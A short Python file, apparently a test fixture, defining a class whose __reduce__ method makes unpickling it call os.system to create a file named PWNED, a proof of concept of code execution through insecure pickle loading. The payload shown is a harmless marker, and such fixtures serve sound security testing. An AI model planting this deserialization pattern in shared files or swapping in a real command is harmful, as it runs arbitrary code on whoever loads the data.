"""A pickle that runs code when it is read as such files used to be read."""

import os
from typing import Any


class Code:
    """Pickled, it makes a file PWNED in the folder where it is read."""

    def __reduce__(self) -> Any:
        return os.system, ("touch PWNED",)
